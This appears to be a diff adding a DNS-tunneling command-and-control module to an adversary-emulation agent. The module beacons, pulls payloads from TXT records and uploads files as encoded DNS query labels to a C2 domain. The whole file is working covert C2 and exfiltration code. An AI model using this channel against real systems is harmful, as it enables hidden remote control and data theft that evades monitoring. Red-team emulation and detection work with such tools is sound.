@@ -0,0 +1,329 @@
+package contact
+
+import (
+	"crypto/rand"
+	"encoding/base32"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/miekg/dns"
+
+	"github.com/mitre/gocat/output"
+	"github.com/mitre/gocat/protocol"
+)
+
+// DNS message types and protocol limits
+const (
+	dnsBeacon       = "be"
+	dnsResults      = "re"
+	dnsPayload      = "pl"
+	dnsUpload       = "up"
+	dnsResponse     = "rx"
+	dnsLabelBytes   = 35 // raw bytes carried per label, which encode to 56 base32 characters
+	dnsLabelChars   = 56
+	dnsMaxLabels    = 4
+	dnsMaxNameLen   = 253
+	dnsHeaderLen    = 32 // room for the "<message id>.<type>.<seq>.<total>." prefix
+	dnsQueryTimeout = 2 * time.Second
+	dnsMaxAttempts  = 5
+)
+
+var (
+	dnsChunkAck      = net.IPv4(10, 0, 0, 1) // chunk stored, more chunks expected
+	dnsMessageAck    = net.IPv4(10, 0, 0, 2) // message complete, response ready to fetch
+	dnsLabelEncoding = base32.StdEncoding.WithPadding(base32.NoPadding)
+)
+
+// DNS tunnels C2 traffic through queries for names under a domain that the C2 server is authoritative for. Each
+// message is split into sequence-numbered chunks sent as the labels of A queries, which the server acknowledges
+// with fixed addresses. The server's response is then fetched chunk by chunk from TXT records. Queries that go
+// unanswered are retransmitted.
+type DNS struct {
+	name             string
+	upstreamDestAddr string
+	encoding         *dataEncoding
+	domain           string
+	resolver         string
+	labelsPerQuery   int
+	client           *dns.Client
+}
+
+// Message carried over the DNS tunnel, in both directions. Data is encoded with the contact's beacon encoders for
+// beacons and results, and with its file encoders for payloads and uploads.
+type dnsMessage struct {
+	Name     string `json:"name,omitempty"`
+	Paw      string `json:"paw,omitempty"`
+	Host     string `json:"host,omitempty"`
+	Platform string `json:"platform,omitempty"`
+	Encoding string `json:"encoding,omitempty"`
+	Data     []byte `json:"data,omitempty"`
+	Error    string `json:"error,omitempty"`
+}
+
+func init() {
+	registerContact("DNS", func() Contact { return &DNS{name: "DNS"} })
+}
+
+func (d *DNS) GetBeaconBytes(profile protocol.Profile) []byte {
+	data, err := json.Marshal(profile)
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] Cannot request beacon. Error with profile marshal: %s", err.Error()))
+		return nil
+	}
+	encoded, err := d.encoding.encodeBeacon(data)
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] Failed to encode beacon: %s", err.Error()))
+		return nil
+	}
+	response, err := d.send(dnsBeacon, dnsMessage{Data: encoded})
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] DNS beacon failed: %s", err.Error()))
+		return nil
+	}
+	decoded, err := d.encoding.decodeBeacon(response.Data)
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] Failed to decode beacon response: %s", err.Error()))
+		return nil
+	}
+	return decoded
+}
+
+func (d *DNS) GetPayloadBytes(profile protocol.Profile, payload string) ([]byte, string) {
+	request := dnsMessage{
+		Name:     payload,
+		Paw:      profile.Paw,
+		Platform: profile.Platform,
+		Encoding: d.encoding.file.String(),
+	}
+	response, err := d.send(dnsPayload, request)
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] Error sending payload request: %s", err.Error()))
+		return nil, ""
+	}
+	payloadBytes, err := d.encoding.decodeFile(response.Data)
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] Error decoding payload: %s", err.Error()))
+		return nil, ""
+	}
+	return payloadBytes, response.Name
+}
+
+func (d *DNS) C2RequirementsMet(profile protocol.Profile, c2Config map[string]string) (bool, map[string]string) {
+	encoding, err := getDataEncoding(c2Config)
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[!] Error - could not set up data encoders: %s", err.Error()))
+		return false, nil
+	}
+	domain := strings.ToLower(strings.Trim(c2Config["dnsDomain"], "."))
+	if len(domain) == 0 {
+		output.VerbosePrint("[!] Error - DNS contact requires a tunneling domain.")
+		return false, nil
+	}
+	labelsPerQuery := (dnsMaxNameLen - dnsHeaderLen - len(domain)) / (dnsLabelChars + 1)
+	if labelsPerQuery > dnsMaxLabels {
+		labelsPerQuery = dnsMaxLabels
+	} else if labelsPerQuery < 1 {
+		output.VerbosePrint(fmt.Sprintf("[!] Error - DNS tunneling domain %s is too long.", domain))
+		return false, nil
+	}
+	resolver, err := getDNSResolver(c2Config["dnsServer"])
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[!] Error - could not determine DNS server: %s", err.Error()))
+		return false, nil
+	}
+	output.VerbosePrint(fmt.Sprintf("DNS domain=%s", domain))
+	output.VerbosePrint(fmt.Sprintf("DNS server=%s", resolver))
+	d.encoding = encoding
+	d.domain = domain
+	d.resolver = resolver
+	d.labelsPerQuery = labelsPerQuery
+	d.client = &dns.Client{Net: "udp", Timeout: dnsQueryTimeout}
+	return true, nil
+}
+
+func (d *DNS) SendExecutionResults(profile protocol.Profile, result protocol.Result) {
+	profile.Results = []protocol.Result{result}
+	data, err := json.Marshal(profile)
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] Cannot send results. Error with profile marshal: %s", err.Error()))
+		return
+	}
+	encoded, err := d.encoding.encodeBeacon(data)
+	if err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] Failed to encode results: %s", err.Error()))
+		return
+	}
+	if _, err = d.send(dnsResults, dnsMessage{Data: encoded}); err != nil {
+		output.VerbosePrint(fmt.Sprintf("[-] Failed to send results over DNS: %s", err.Error()))
+	}
+}
+
+func (d *DNS) GetName() string {
+	return d.name
+}
+
+// The DNS contact always reaches the server through the DNS resolver, so the upstream address is only recorded.
+func (d *DNS) SetUpstreamDestAddr(upstreamDestAddr string) {
+	d.upstreamDestAddr = upstreamDestAddr
+}
+
+func (d *DNS) UploadFileBytes(profile protocol.Profile, uploadName string, data []byte) error {
+	encoded, err := d.encoding.encodeFile(data)
+	if err != nil {
+		return err
+	}
+	request := dnsMessage{
+		Name:     uploadName,
+		Paw:      profile.Paw,
+		Host:     profile.Host,
+		Encoding: d.encoding.file.String(),
+		Data:     encoded,
+	}
+	_, err = d.send(dnsUpload, request)
+	return err
+}
+
+// Sends the message to the server under a new message ID and returns the server's response.
+func (d *DNS) send(msgType string, msg dnsMessage) (dnsMessage, error) {
+	var response dnsMessage
+	data, err := json.Marshal(msg)
+	if err != nil {
+		return response, err
+	}
+	id, err := newDNSMessageID()
+	if err != nil {
+		return response, err
+	}
+	if err = d.upload(id, msgType, data); err != nil {
+		return response, err
+	}
+	responseData, err := d.download(id)
+	if err != nil {
+		return response, err
+	}
+	if err = json.Unmarshal(responseData, &response); err != nil {
+		return response, err
+	}
+	if len(response.Error) > 0 {
+		return response, errors.New(response.Error)
+	}
+	return response, nil
+}
+
+// Sends the data as sequence-numbered chunks of A queries named <id>.<type>.<seq>.<total>.<data labels>.<domain>.
+// The server acknowledges the final chunk once the whole message has been received.
+func (d *DNS) upload(id string, msgType string, data []byte) error {
+	chunkSize := d.labelsPerQuery * dnsLabelBytes
+	total := (len(data) + chunkSize - 1) / chunkSize
+	if total == 0 {
+		total = 1
+	}
+	for seq := 0; seq < total; seq++ {
+		start := seq * chunkSize
+		end := start + chunkSize
+		if end > len(data) {
+			end = len(data)
+		}
+		labels := []string{id, msgType, strconv.Itoa(seq), strconv.Itoa(total)}
+		for chunk := data[start:end]; len(chunk) > 0; {
+			labelSize := dnsLabelBytes
+			if labelSize > len(chunk) {
+				labelSize = len(chunk)
+			}
+			labels = append(labels, strings.ToLower(dnsLabelEncoding.EncodeToString(chunk[:labelSize])))
+			chunk = chunk[labelSize:]
+		}
+		answer, err := d.query(strings.Join(append(labels, d.domain), "."), dns.TypeA)
+		if err != nil {
+			return err
+		}
+		expectedAck := dnsChunkAck
+		if seq == total-1 {
+			expectedAck = dnsMessageAck
+		}
+		if record, ok := answer.(*dns.A); !ok || !record.A.Equal(expectedAck) {
+			return errors.New(fmt.Sprintf("Unexpected acknowledgement for chunk %d of message %s: %s", seq, id, answer.String()))
+		}
+	}
+	return nil
+}
+
+// Fetches the server's response to the message from TXT records named <id>.rx.<seq>.<domain>. Each record holds
+// the total number of chunks followed by the base64-encoded chunk.
+func (d *DNS) download(id string) ([]byte, error) {
+	var data []byte
+	for seq, total := 0, 1; seq < total; seq++ {
+		answer, err := d.query(fmt.Sprintf("%s.%s.%d.%s", id, dnsResponse, seq, d.domain), dns.TypeTXT)
+		if err != nil {
+			return nil, err
+		}
+		record, ok := answer.(*dns.TXT)
+		if !ok || len(record.Txt) != 2 {
+			return nil, errors.New(fmt.Sprintf("Malformed response chunk %d of message %s: %s", seq, id, answer.String()))
+		}
+		if total, err = strconv.Atoi(record.Txt[0]); err != nil {
+			return nil, err
+		}
+		chunk, err := base64.StdEncoding.DecodeString(record.Txt[1])
+		if err != nil {
+			return nil, err
+		}
+		data = append(data, chunk...)
+	}
+	return data, nil
+}
+
+// Sends the query and returns the first answer of the requested type. Queries that time out or fail on the
+// server side are retransmitted up to dnsMaxAttempts times.
+func (d *DNS) query(name string, qtype uint16) (dns.RR, error) {
+	msg := new(dns.Msg)
+	msg.SetQuestion(dns.Fqdn(name), qtype)
+	var err error
+	for attempt := 1; attempt <= dnsMaxAttempts; attempt++ {
+		var response *dns.Msg
+		response, _, err = d.client.Exchange(msg, d.resolver)
+		if err == nil && response.Rcode == dns.RcodeServerFailure {
+			err = errors.New("server failure")
+		}
+		if err != nil {
+			output.VerbosePrint(fmt.Sprintf("[-] DNS query %s failed (attempt %d of %d): %s", name, attempt, dnsMaxAttempts, err.Error()))
+			continue
+		}
+		if response.Rcode != dns.RcodeSuccess {
+			return nil, errors.New(fmt.Sprintf("DNS query %s was answered with %s", name, dns.RcodeToString[response.Rcode]))
+		}
+		for _, answer := range response.Answer {
+			if answer.Header().Rrtype == qtype {
+				return answer, nil
+			}
+		}
+		return nil, errors.New(fmt.Sprintf("DNS query %s returned no %s records", name, dns.TypeToString[qtype]))
+	}
+	return nil, err
+}
+
+func newDNSMessageID() (string, error) {
+	id := make([]byte, 4)
+	if _, err := rand.Read(id); err != nil {
+		return "", err
+	}
+	return hex.EncodeToString(id), nil
+}
+
+// Returns the host:port of the DNS server to query, defaulting to the system's first DNS server.
+func getDNSResolver(dnsServer string) (string, error) {
+	if len(dnsServer) == 0 {
+		return getSystemDNSServer()
+	}
+	if _, _, err := net.SplitHostPort(dnsServer); err != nil {
+		return net.JoinHostPort(strings.Trim(dnsServer, "[]"), "53"), nil
+	}
+	return dnsServer, nil
+}